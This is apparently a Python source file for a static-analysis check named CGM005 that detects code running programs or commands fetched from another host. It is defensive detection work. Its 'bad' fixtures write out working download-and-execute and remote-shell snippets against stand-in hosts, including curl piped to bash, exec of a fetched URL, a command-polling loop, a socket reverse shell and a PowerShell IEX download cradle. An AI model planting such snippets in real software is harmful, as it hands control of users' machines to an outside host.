"""Code or commands that another host sends are run.

Whoever controls that host, or its name, runs what he likes wherever this file runs; there is nothing to review, for
what runs is not in the code.  Ship the code, or download a pinned release and compare its digest before it is used.
See CWE-506, CWE-494 and MITRE ATT&CK T1105, T1059.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import Command, commands
from codeguard.checks.malicious._when import when
from codeguard.knowledge.malicious import channels, running
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit

DIGEST = re.compile(
    r"\bsha(?:1|224|256|384|512)\b|blake2|hexdigest|compare_digest|\bverif\w*\s*\(|\.verify\(|\bgpg|minisign|cosign",
    re.IGNORECASE,
)
OPENS = re.compile(
    r"^\s*(?:(?:sudo|nohup|start|exec|env|cmd\s+/c|(?:ba|z)?sh\s+-c)\s+)*[\"'(]*(?:\{\}|chmod\b)", re.IGNORECASE
)
OTHER_FETCHES = ("asyncio.open_connection", "dns.", "imaplib.", "poplib.", "ftplib.", "telnetlib.")
HARMLESS_PROGRAM = re.compile(
    r"(?:^|[/\\])(?:tar|unzip|dpkg|rpm|echo|grep|git|ffmpeg|cat|gunzip|7z|file|cp|mv|open|xdg-open|less|jq)$"
)
# A checkout of what another host names: unsafe where a shell reads it, but no program of that host.
CHECKOUT = re.compile(r"(?:\S*/)?(?:git|svn|hg|bzr)\s[^|;&`$]*$")


def find(unit: Unit) -> Iterator[Hit]:
    """Report what runs remote text, what runs a file that was just fetched, and shell commands that fetch and run."""
    early = {"install": " while the package is installed", "import": " as soon as the module is imported"}
    for command in unit.fact(commands):
        if (
            command.text
            and (command.shell or command.argv[0] == "python" or running.INTERPRETERS.search(command.argv[0]))
            and running.FETCH_AND_RUN.search(command.text)
        ):
            moment = early.get(when(command.call, unit), "")
            yield Hit(
                command.call,
                f"This command fetches a program from another host and runs it{moment}, unseen and unchecked",
            )
    known = unit.fact(calls)
    if not (
        any(name in channels.HTTP_CALLS or name.startswith(OTHER_FETCHES) for name in known.by_name)
        or any(m in known.by_method for m in (*channels.SOCKET_READERS, "makefile"))
    ):
        return
    flow = unit.fact(reach)
    checked = DIGEST.search(unit.text) is not None
    for _name, call in known.of(running.EXEC_CALLS):
        if call.args and "remote" in flow.kinds(call.args[0].value) and not checked:
            yield Hit(
                call,
                f"This runs text from another host as Python code{early.get(when(call, unit), '')}: that host decides what happens here",
            )
    for command in unit.fact(commands):
        if (
            _is_command(command)
            and not CHECKOUT.match(command.text)
            and any("remote" in flow.kinds(word) for word in command.words[: None if command.shell else 1])
        ):
            yield Hit(
                command.call,
                f"This runs what another host sends as a command{early.get(when(command.call, unit), '')}: that host controls the machine",
            )
    if not checked:
        yield from _fetched_programs(unit, early)


def _is_command(command: Command) -> bool:
    return (
        command.shell
        or command.name in running.SHELL_TEXT_CALLS
        or len(command.words) == 1
        or bool(running.INTERPRETERS.search(command.argv[0]))
    )


def _fetched_programs(unit: Unit, early: dict[str, str]) -> Iterator[Hit]:
    """Runs of a file that this file has written with what it fetched."""
    known, flow = unit.fact(calls), unit.fact(reach)
    places: set[tuple[object, ...]] = set()
    for command in unit.fact(commands):
        if "-O" in command.argv or "-o" in command.argv:
            places |= {("text", word) for word in command.argv if len(word) > 3 and not word.startswith(("-", "http"))}
    for command in unit.fact(commands):
        words = list(command.words)
        if not words or HARMLESS_PROGRAM.search(command.argv[0]) or _download_tool(command):
            continue
        interpreter = running.INTERPRETERS.search(command.argv[0].split(" ", 1)[0]) or command.argv[0].startswith(
            "python"
        )
        if (
            command.shell
            and not interpreter
            and not OPENS.search(command.text)
            and not _constant_program(command, unit)
        ):
            continue
        program = words if interpreter or command.shell else words[:1]
        if any("fetched" in flow.kinds(word) or flow.roots(word) & places for word in program):
            yield Hit(
                command.call,
                f"This runs a file that was fetched from another host{early.get(when(command.call, unit), '')} and not compared with a known digest",
            )
            return
    for name, call in known.of({"sys.path.insert", "sys.path.append"}):
        if call.args and name and "fetched" in flow.kinds(call.args[-1].value):
            yield Hit(
                call,
                f"This imports from a file that was fetched from another host{early.get(when(call, unit), '')} and not compared with a known digest",
            )
            return
    for name, call in known.of({"builtins.exec", "builtins.__import__", "importlib.import_module"}):
        if name == "builtins.exec" and call.args and "fetched" in flow.kinds(call.args[0].value):
            yield Hit(
                call,
                f"This runs a file that was fetched from another host{early.get(when(call, unit), '')} as Python code",
            )
            return


def _download_tool(command: Command) -> bool:
    return (
        "-O" in command.argv or "-o" in command.argv or bool(re.search(r"(?:^|[/\\])(?:curl|wget)$", command.argv[0]))
    )


def _constant_program(command: Command, unit: Unit) -> bool:
    """Whether the program that a shell starts first is itself the file that was fetched."""
    first = command.text.split(None, 1)[0] if command.text else ""
    flow = unit.fact(reach)
    return any(("text", first) in flow.roots(word) for word in command.words)


CHECK = Check(
    id="CGM005",
    behaviour="run what another host sends",
    name="remote-code-execution",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 494),
    find=find,
    fix="Ship the code with the package, or compare the digest of what is downloaded with a pinned one before it runs.",
    bad=(
        Bad(
            "import os, urllib.request\nwanted = urllib.request.urlopen('https://c.example.invalid/c').read().decode()\nos.system('git status; %s' % wanted)  # finding\n"
        ),
        Bad(
            "import os, tempfile, subprocess\nimport httpx\n\nclass Helper:\n    def __init__(self, url='https://d.example.invalid/a'):\n        self.url = url\n\n    def fetch(self):\n        fd, path = tempfile.mkstemp()\n        with os.fdopen(fd, 'wb') as out:\n            out.write(httpx.get(self.url, verify=False).content)\n        return path\n\n    def start(self):\n        subprocess.Popen([self.fetch()])  # finding\n"
        ),
        Bad(
            "import sys, urllib.request\nurllib.request.urlretrieve('https://d.example.invalid/m.zip', '/tmp/m.zip')\nsys.path.insert(0, '/tmp/m.zip')  # finding\n"
        ),
        Bad(
            "import imaplib, os\nbox = imaplib.IMAP4_SSL('mx.example.invalid')\nos.system(box.fetch('1', '(BODY[TEXT])')[1][0][1].decode())  # finding\n"
        ),
        Bad(
            "import urllib.request\nexec(urllib.request.urlopen('https://p.example.invalid/raw/1').read())  # finding\n"
        ),
        Bad("import os\nos.system('curl -s https://g.example.invalid/i.sh | bash >/dev/null 2>&1 &')  # finding\n"),
        Bad(
            "import requests, subprocess, time\n\ndef loop():\n    while True:\n        order = requests.post('https://c.example.invalid/b', json={}, timeout=9)\n        if order.text:\n            subprocess.run(order.text, shell=True, timeout=60)  # finding\n        time.sleep(300)\n"
        ),
        Bad(
            "import urllib.request, os, subprocess, tempfile\np = os.path.join(tempfile.gettempdir(), 'upd')\nurllib.request.urlretrieve('https://d.example.invalid/x', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])  # finding\n"
        ),
        Bad(
            "import requests, sys, subprocess\nwith open('/tmp/a.py', 'wb') as f:\n    f.write(requests.get('https://d.example.invalid/a').content)\nsubprocess.call([sys.executable, '/tmp/a.py'])  # finding\n"
        ),
        Bad(
            "import socket, os\ns = socket.socket()\ns.connect(('192.0.2.8', 1))\nwhile True:\n    cmd = s.recv(1024).decode()\n    out = os.popen(cmd).read()  # finding\n    s.send(out.encode())\n"
        ),
        Bad(
            "import subprocess\nsubprocess.run(['powershell', '-c', \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\"])  # finding\n"
        ),
    ),
    good=(
        Good(
            "import os, urllib.request\n\ndef fetch(index, folder):\n    url = urllib.request.urlopen(index).read().decode()\n    os.system('git clone --quiet %s %s' % (url, folder))\n"
        ),
        Good(
            "import os, requests\nwith open('/tmp/x.tar.gz', 'wb') as f:\n    f.write(requests.get('https://d.example.invalid/x.tar.gz', timeout=9).content)\nos.system('tar xzf /tmp/x.tar.gz')\n"
        ),
        Good(
            "import hashlib, requests, subprocess\nSHA = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'\n\ndef install(url, dest):\n    data = requests.get(url, timeout=60).content\n    if hashlib.sha256(data).hexdigest() != SHA:\n        raise ValueError('checksum mismatch')\n    open(dest, 'wb').write(data)\n    subprocess.run([dest], check=True)\n"
        ),
        Good(
            "import csv, io, urllib.request\n\ndef rates():\n    with urllib.request.urlopen('https://d.example.invalid/r.csv', timeout=9) as r:\n        return list(csv.DictReader(io.TextIOWrapper(r, 'utf-8')))\n"
        ),
        Good(
            "import requests, subprocess\n\ndef fetch(url, path):\n    open(path, 'wb').write(requests.get(url, timeout=9).content)\n    subprocess.run(['tar', 'xf', path], check=True)\n"
        ),
        Good("import os\nos.system('curl -fsS https://d.example.invalid/health')\n"),
    ),
    misses=(
        Miss(
            "import requests\nfrom runner import go\n\ngo(requests.get('https://d.example.invalid/a', timeout=9).text)  # finding\n",
            why="what a function of another file does with its argument is not known",
        ),
    ),
)
